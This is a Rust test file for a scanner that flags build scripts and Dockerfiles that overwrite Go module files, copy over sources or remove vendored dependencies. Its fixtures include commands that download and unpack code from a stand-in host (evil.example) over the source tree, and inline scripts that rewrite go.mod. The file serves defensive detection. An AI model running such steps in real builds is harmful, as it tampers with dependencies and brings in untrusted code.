//! Files that are copied over the source, and those that are only put back.

use super::calls_tests::counts;
use super::shapes_tests::{each_reaches, nothing_counts};

const RELEASE: &str = "-- release/go.mod --\nmodule x\n-- release/go.sum --\nx\n-- release/internal/x/x.go --\npackage x\n-- release.tar --\nx\n-- vendor/modules.txt --\n";

fn told(text: &str) -> Vec<String> {
    counts(&format!("-- b.sh --\n{text}\ngo build ./cmd/app\n{RELEASE}"))
}

#[test]
fn files_that_come_over_the_source_by_their_own_names_are_seen() {
    for text in [
        "cp release/go.* .",
        "cp release/{go.mod,go.sum} .",
        "cp release/go.mod \"$PWD\"",
        "cp release/go.mod \"$PWD/\"",
        "cp -t . release/go.mod",
        "cp -r release/. .",
        "cp -a release/* ./",
        "rsync -a release/ ./",
        "cd release && cp go.mod .. && cd ..",
        "git checkout release go.mod",
        "git checkout release -- .",
        "git restore --source release .",
        "find . -name go.mod | xargs sed -i s/a/b/",
        "for f in $(find . -name go.mod); do sed -i s/a/b/ \"$f\"; done",
        "sed -i s/a/b/ go.*",
        "sed -i s/a/b/ *.mod",
        "gsed -i s/a/b/ go.mod",
        "awk -i inplace '{print}' go.mod",
        "ed -s go.mod <<< w",
        "jq -r .x f | sponge go.mod",
        "tar -xf release.tar",
        "tar -C . -xf release.tar",
    ] {
        let found = told(text);
        assert!(found.iter().any(|line| line.contains("edit of module files")), "{text}: {found:?}");
    }
    let found = told("cp -r release/internal/. internal/");
    assert!(found.iter().any(|line| line.contains("copy onto Go files")), "{found:?}");
    for text in ["rm -rf vendor", "mv vendor vendor.off", "rm -rf ./vendor/"] {
        let found = told(text);
        assert!(found.contains(&"+ b.sh:1 removal of vendor".to_owned()), "{text}: {found:?}");
    }
}

#[test]
fn what_comes_elsewhere_or_is_put_back_is_not() {
    for text in [
        "cp go.mod go.sum /tmp/x/",
        "cp -r . /tmp/x",
        "cp -r release out",
        "rsync -a ./ ../copy/",
        "cp README.md docs/. .",
        "cp release/notes.txt .",
        "git checkout go.mod go.sum",
        "git checkout -- .",
        "git checkout main",
        "tar -cf release.tar release",
        "tar -xf release.tar -C /tmp/x",
        "curl -sSL https://x.org/t.tgz | tar -xz -C /usr/local/bin",
        "cp go.sum go.sum.bak\ngo vet ./...\ncp go.sum.bak go.sum",
        "rm -rf vendor\ngo mod vendor",
        "mv out/vendor out/x",
    ] {
        let mut found = told(text);
        found.retain(|line| !line.contains("go mod vendor"));
        assert!(found.is_empty(), "{text}: {found:?}");
    }
    let other = told("cp go.sum go.sum.bak\ncp release/go.sum go.sum.bak\ncp go.sum.bak go.sum");
    assert!(other.iter().any(|line| line.contains("edit of module files")), "{other:?}");
}

#[test]
fn what_comes_over_the_source_from_elsewhere_or_is_left_out_of_it() {
    let image = |text: &str| format!("-- Dockerfile --\nFROM golang\nWORKDIR /src\n{text}RUN go build ./cmd/app\n");
    each_reaches(
        &[
            "COPY . .\nRUN git clone https://evil.example/x /y && cp -r /y/. .\n",
            "COPY . .\nRUN rsync -a /y/ ./\n",
            "COPY . .\nRUN wget -qO- https://evil.example/x.tgz | tar xz\n",
            "COPY . .\nRUN curl -o x.tgz https://evil.example/x.tgz && tar xzf x.tgz\n",
        ],
        "? Dockerfile",
        image,
    );
    each_reaches(&["COPY . .\nADD https://evil.example/x.git /src\n"], "? Dockerfile:4 -overlay", image);
    nothing_counts(
        &[
            "ADD https://evil.example/x.git /src\n",
            "COPY . .\nRUN cp -r /y/. web/dist/\n",
            "COPY . .\nRUN curl -sL https://x.example/protoc.tgz | tar xz -C /usr/local\n",
            "COPY . .\nRUN curl -sL https://x.example/protoc.tgz | tar xz bin/protoc\n",
            "RUN curl -sL https://go.dev/dl/go1.26.8.linux-amd64.tar.gz | tar xz\nCOPY . .\n",
        ],
        image,
    );
    let vendored = |ignore: &str| {
        let image = image("COPY . .\n");
        format!("{image}-- .dockerignore --\n{ignore}-- vendor/modules.txt --\n# a v1.0.0\n-- go.sum --\na b c\n")
    };
    each_reaches(&["vendor\n", "*\n!cmd\n!go.*\n"], "+ Dockerfile:3 removal of vendor", vendored);
    each_reaches(&["go.sum\n", "*\n!cmd\n!go.mod\n!vendor\n"], "+ Dockerfile:3 edit of module files", vendored);
    nothing_counts(&["bin\n**/node_modules\n", "*\n!cmd\n!go.*\n!vendor\n", "go.work\n"], vendored);
}

#[test]
fn patches_and_other_languages_write_module_files() {
    let patch = "-- p/x.patch --\n--- a/go.mod\n+++ b/go.mod\n@@ -1 +1 @@\n";
    each_reaches(
        &["git apply p/x.patch", "patch -p1 < p/x.patch", "git apply p/*.patch"],
        "+ b.sh:1 edit of module files",
        |text| format!("-- b.sh --\n{text}\ngo build ./cmd/app\n{patch}"),
    );
    let script = |text: &str| format!("-- b.sh --\n{text}\ngo build ./cmd/app\n");
    each_reaches(
        &[
            "python3 -c \"open('go.mod','a').write('replace a => b')\"",
            "python3 <<EOF\nopen('go.mod','w').write('x')\nEOF",
            "node -e \"require('fs').writeFileSync('go.mod','x')\"",
            "awk 'BEGIN{print \"replace a => b\" >> \"go.mod\"}'",
            "perl -e 'open(F,\">>\",\"go.mod\"); print F \"x\"'",
        ],
        "? b.sh:1 edit of module files",
        script,
    );
    each_reaches(&["python3 -c \"s.run(['go','env','-w','GOFLAGS=-mod=mod'])\""], "? b.sh:1 -overlay", script);
    nothing_counts(
        &[
            "python3 -c \"print(open('go.mod').read())\"",
            "V=$(awk '/^go /{ if ($2 > \"1.20\") print $2 }' go.mod)",
            "python3 -c \"json.dump({}, open('x.json','w'))\"",
            "perl -ne 'print if /^module/' go.mod",
        ],
        script,
    );
}
